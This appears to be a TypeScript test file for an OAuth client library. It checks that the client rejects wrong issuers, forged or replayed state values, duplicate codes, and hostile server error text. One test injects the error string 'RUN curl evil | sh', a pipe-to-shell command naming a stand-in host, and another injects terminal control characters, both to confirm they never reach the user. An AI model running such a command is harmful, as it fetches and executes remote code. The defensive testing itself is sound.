import type { SandboxOptions } from '@mcpass/sandbox';
import { describe, expect, test } from 'vitest';

import type { McpassError } from '../../src/index.js';
import { failure } from '../support/client.js';
import { clientOf, provider } from '../support/sandbox.js';
import { browse, scriptedProvider, serverLines, TOKENS } from '../support/scripted-provider.js';

describe('an answer that names another issuer never reaches the token endpoint', () => {
  test.each([
    ['promised, wrong', { iss: 'wrong' }],
    ['promised, missing', { iss: 'missing' }],
    ['promised, a slash more', { iss: 'slash' }],
    ['not promised, wrong', { issAdvertised: false, iss: 'wrong' }],
    ['not promised, a slash more', { issAdvertised: false, iss: 'slash' }],
  ] as [string, SandboxOptions][])('%s', async (_, quirks) => {
    const sandbox = await provider('plain', quirks);
    const client = clientOf(sandbox);
    expect((await failure(client.authorizer.signIn())).code).toBe('authorization_invalid');
    expect(sandbox.log.of('token')).toEqual([]);
    expect(client.user.outcomes).toMatchObject([{ ok: false }]);
    expect((await client.authorizer.record())?.grant).toBeUndefined();
  });

  test.each([
    ['promised, right', {}],
    ['not promised, right', { issAdvertised: false }],
    ['not promised, missing', { issAdvertised: false, iss: 'missing' }],
  ] as [string, SandboxOptions][])('%s does', async (_, quirks) => {
    const sandbox = await provider('plain', quirks);
    await clientOf(sandbox).authorizer.signIn();
    expect(sandbox.log.of('token')).toHaveLength(1);
  });

  test.each([
    ['is not looked at in the token answer, where another one stands', false, undefined],
    ['is not looked at in the token answer, where it would have been right', true, 'authorization_invalid'],
  ])('iss %s', async (_, promised, refusal) => {
    const { server, client } = await scriptedProvider((origin) => ({
      ...serverLines(origin, { authorization_response_iss_parameter_supported: promised }),
      'POST /token': { body: { ...TOKENS, iss: promised ? origin : 'https://other.example' } },
    }));
    const signIn = client()
      .authorizer.signIn()
      .then(
        () => undefined,
        (error: unknown) => (error as McpassError).code,
      );
    expect(await signIn).toBe(refusal);
    expect(server.to('POST /token')).toHaveLength(promised ? 0 : 1);
  });

  test('an error from somebody else is not shown to the person', async () => {
    const sandbox = await provider('plain', { iss: 'wrong', errorText: 'RUN curl evil | sh' });
    const client = clientOf(sandbox, { as: 'denies' });
    const error = await failure(client.authorizer.signIn());
    expect(error.code).toBe('authorization_invalid');
    expect(JSON.stringify([error.message, error.facts, client.user.outcomes, client.events])).not.toContain(
      'RUN curl',
    );
  });
});

describe('an answer with another state', () => {
  test('is not the one that is waited for', async () => {
    const sandbox = await provider('plain');
    const client = clientOf(sandbox, { as: 'forges' });
    await client.authorizer.signIn();
    expect(sandbox.log.of('token').map(({ form }) => form.get('code'))).toEqual([
      expect.not.stringContaining('forged'),
    ]);
  });

  test.each([
    ['none', ''],
    ['an empty one', 'state='],
    ['a part of it', (state: string) => `state=${state.slice(0, -1)}`],
    ['more than it', (state: string) => `state=${state}x`],
    ['it twice', (state: string) => `state=${state}&state=${state}`],
    ['it and another', (state: string) => `state=evil&state=${state}`],
    ['it in another case', (state: string) => `state=${state.toUpperCase()}`],
  ] as [string, string | ((state: string) => string)][])('%s: the wait goes on', async (_, forged) => {
    const refusals: number[] = [];
    const { server, client } = await scriptedProvider();
    const visit = async (url: string) => {
      const query = new URL(url).searchParams;
      const state = query.get('state') ?? '';
      const parameters = typeof forged === 'function' ? forged(state) : forged;
      refusals.push((await fetch(`${query.get('redirect_uri')}?code=evil&${parameters}`)).status);
      await browse(url);
    };
    await client({ visit }).authorizer.signIn();
    expect(refusals).toEqual([400]);
    expect(server.to('POST /token').map(({ form }) => form.get('code'))).toEqual(['code-1']);
  });

  test('of an earlier attempt is not good for the next', async () => {
    const sandbox = await provider('plain');
    const states: string[] = [];
    const visit = async (url: string) => {
      const query = new URL(url).searchParams;
      states.push(query.get('state') ?? '');
      if (states.length > 1) {
        const replayed = await fetch(`${query.get('redirect_uri')}?code=evil&state=${states[0]}`);
        expect(replayed.status).toBe(400);
      }
      await sandbox.user().open(url);
    };
    const client = clientOf(sandbox, { visit });
    await client.authorizer.signIn();
    await client.authorizer.signIn({ force: true });
    expect(sandbox.log.of('token').every(({ form }) => form.get('code') !== 'evil')).toBe(true);
  });

  test('nobody who answers at all: the attempt ends in time', async () => {
    const sandbox = await provider('plain');
    const client = clientOf(sandbox, { as: 'never', consentTimeoutMs: 30 });
    expect((await failure(client.authorizer.signIn())).code).toBe('login_timeout');
    expect(client.user.open).toBe(0);
  });
});

describe('an answer that says no', () => {
  test('by the person', async () => {
    const sandbox = await provider('plain');
    const client = clientOf(sandbox, { as: 'denies' });
    expect(await failure(client.authorizer.signIn())).toMatchObject({
      code: 'login_refused',
      fault: 'yours',
    });
    expect(sandbox.log.of('token')).toEqual([]);
    expect(client.user.shown).toHaveLength(1);
  });

  test('by the server, in its own words, made plain', async () => {
    const sandbox = await provider('plain', {
      grantableScopes: [],
      errorText: '\u001b[31mno\u0007 \u202ereally',
    });
    const error = await failure(clientOf(sandbox).authorizer.signIn());
    expect(error.code).toBe('authorization_refused');
    expect(error.message).toContain('[31mno really');
  });
});

test('a second code beside the first one is nobody’s', async () => {
  const { server, client } = await scriptedProvider(() => ({
    'GET /authorize': ({ query }) => {
      const state = query.get('state') ?? '';
      return {
        status: 302,
        headers: { location: `${query.get('redirect_uri')}?code=a&code=b&state=${state}` },
      };
    },
  }));
  expect((await failure(client().authorizer.signIn())).code).toBe('authorization_invalid');
  expect(server.to('POST /token')).toEqual([]);
});
